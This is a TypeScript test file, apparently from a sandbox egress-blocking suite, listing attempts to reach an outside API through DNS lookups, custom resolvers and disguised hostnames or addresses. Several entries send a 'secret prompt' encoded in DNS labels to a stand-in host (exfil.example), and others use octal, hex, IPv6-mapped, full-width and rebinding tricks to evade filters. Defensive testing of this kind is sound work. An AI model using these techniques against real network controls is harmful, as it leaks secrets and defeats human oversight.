/** Names: looking them up is already a message to the outside, and they have many spellings. */
import dns from 'node:dns';
import net from 'node:net';
import { places } from '../places.ts';
import { type Attempt, done, tcp } from './attempt.ts';
import { dnsQuery } from './datagrams.ts';

function ownResolver(): dns.promises.Resolver {
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers([places.resolver]);
  return resolver;
}

export const names: Attempt[] = [
  {
    id: 'dns-lookup',
    title: 'dns.lookup',
    run: () => done((callback) => dns.lookup('api.deepseek.com', callback)),
  },
  {
    id: 'dns-promises-lookup',
    title: 'dns.promises.lookup',
    run: () => dns.promises.lookup('api.deepseek.com'),
  },
  { id: 'dns-resolve', title: 'dns.resolve4', run: () => dns.promises.resolve4('api.deepseek.com') },
  {
    id: 'dns-resolver',
    title: 'own Resolver with own servers',
    run: () => ownResolver().resolve4('api.deepseek.com'),
  },
  {
    id: 'dns-callback-resolver',
    title: 'callback Resolver with own servers',
    run: () =>
      done((callback) => {
        const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
        resolver.setServers([places.resolver]);
        resolver.resolveAny('api.deepseek.com', callback);
      }),
  },
  {
    id: 'dns-exfiltration',
    title: 'secret in a DNS label',
    run: () => ownResolver().resolveTxt(`${Buffer.from('secret prompt').toString('hex')}.exfil.example`),
  },
  {
    id: 'dns-exfiltration-allowed-looking',
    title: 'secret below a look-alike of an allowed name',
    run: () => dns.promises.lookup('secret.ok.example.exfil.example'),
  },
  { id: 'dns-reverse', title: 'dns.reverse', run: () => ownResolver().reverse(places.cloud) },
  {
    id: 'dns-lookup-service',
    title: 'dns.lookupService',
    run: () => dns.promises.lookupService(places.cloud, 443),
  },
  {
    id: 'dns-tcp',
    title: 'DNS query made by hand over TCP',
    run: () =>
      done((callback) => {
        const query = dnsQuery('c2VjcmV0.exfil.example');
        const socket = net.connect(53, places.resolver, () =>
          socket.end(Buffer.concat([Buffer.from([0, query.length]), query])),
        );
        socket
          .on('error', callback)
          .on('close', () => callback(null))
          .resume();
      }),
  },
  { id: 'name-case-and-dot', title: 'API.DeepSeek.COM.', run: () => tcp('API.DeepSeek.COM.', 80) },
  { id: 'name-ideographic-dot', title: 'api。deepseek。com', run: () => fetch('http://api。deepseek。com/') },
  { id: 'name-full-width', title: 'full-width letters', run: () => fetch('http://ａｐｉ.ｄeepseek.com/') },
  { id: 'address-decimal', title: 'address as one decimal number', run: () => tcp('3405803786', 80) },
  { id: 'address-hexadecimal', title: 'address in hexadecimal', run: () => fetch('http://0xcb00710a/') },
  { id: 'address-octal', title: 'address in octal', run: () => fetch('http://0313.0.0161.012/') },
  {
    id: 'address-mapped',
    title: 'IPv4 address inside an IPv6 one',
    run: () => tcp(`::ffff:${places.cloud}`, 80),
  },
  {
    id: 'address-mapped-hexadecimal',
    title: 'the same in hexadecimal',
    run: () => tcp('0:0:0:0:0:ffff:cb00:710a', 80),
  },
  { id: 'name-rebinding', title: 'innocent name, bad address', run: () => tcp('rebind.example', 80) },
  { id: 'name-cname-cloak', title: 'innocent name, CNAME to the cloud', run: () => tcp('cloak.example', 80) },
];
